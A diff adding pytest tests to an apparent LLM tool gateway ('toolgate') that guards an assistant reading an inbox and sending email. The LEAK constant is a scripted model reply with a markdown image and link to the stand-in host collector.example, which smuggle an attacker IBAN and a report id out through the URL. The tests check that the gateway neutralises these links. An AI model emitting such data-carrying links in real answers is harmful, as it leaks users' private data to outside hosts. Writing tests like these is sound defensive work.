@@ -300,3 +300,51 @@ def test_the_messages_api_judges_a_tool_use_against_the_clients_tool_result_bloc
             model="assistant", max_tokens=64, messages=messages, tools=tools)
     assert answer.stop_reason == "end_turn" and [b.type for b in answer.content] == ["text"]
     assert answer.content[0].text.startswith("Not sent.\n\n[toolgate] 1 tool call not run")
+
+
+def test_values_of_a_call_the_firewall_let_run_stay_trusted_when_a_tool_echoes_them_back(
+    upstream: ScriptedUpstream, office_server: ServerThread, office: OfficeState,
+) -> None:
+    # R: T3
+    mail = {"to": "bob@corp.example", "subject": "Team lunch", "body": "Count me in for the team lunch."}
+    upstream.push(Reply(tool_calls=[("read_inbox", {})]), Reply(tool_calls=[("send_email", mail)]),
+                  Reply(tool_calls=[("send_email", mail)]), Reply(content="Sent twice."))
+    with running_gateway(config(upstream, office_server)) as gw:
+        answer = ask(gw, "Read my inbox and tell bob@corp.example I am in.")
+    assert office.calls_of("send_email") == [mail, mail]  # the second carries values the first's result echoed
+    assert "held" not in answer.model_extra["toolgate"]
+
+
+LEAK = f"Here is your summary. ![chart](https://collector.example/p.png?d={ATTACKER_IBAN}) See [the invoice](https://collector.example/i?d=quarterly-report-2291)."
+NEUTRALISED = ('Here is your summary. image "chart" (collector.example, blocked) See link "the invoice" '
+               "(collector.example, blocked).")
+
+
+@pytest.mark.parametrize("stream", [False, True])
+def test_links_and_images_that_would_carry_context_data_out_are_shown_as_text(
+    upstream: ScriptedUpstream, office_server: ServerThread, stream: bool,
+) -> None:
+    # R: T5
+    upstream.push(Reply(tool_calls=[("read_inbox", {})]), Reply(content=LEAK))
+    with running_gateway(config(upstream, office_server)) as gw:
+        if stream:
+            chunks = list(ask(gw, "Summarise my inbox.", stream=True))
+            text = "".join(c.choices[0].delta.content or "" for c in chunks if c.choices)
+        else:
+            text = ask(gw, "Summarise my inbox.").choices[0].message.content
+        metrics = httpx2.get(gw.url + "/metrics").text
+    # the scripted stream sends the text word by word, each word followed by a space
+    assert (" ".join(text.split()) if stream else text) == NEUTRALISED
+    assert 'toolgate_guard_egress_neutralised_total{guard="prompt_guard",kind="image",reason="host_not_allowed"} 1.0' in metrics
+
+
+def test_an_allowed_host_and_an_answer_without_untrusted_context_keep_their_links(
+    upstream: ScriptedUpstream, office_server: ServerThread,
+) -> None:
+    # R: T5
+    upstream.push(Reply(tool_calls=[("read_inbox", {})]), Reply(content=LEAK), Reply(content=LEAK))
+    guard = {"firewall": {"egress": {"allowed_hosts": ["example"]}}}
+    with running_gateway(config(upstream, office_server, guard)) as gw:
+        allowed = ask(gw, "Summarise my inbox.").choices[0].message.content
+        plain = ask(gw, "Say something.").choices[0].message.content
+    assert allowed == LEAK and plain == LEAK
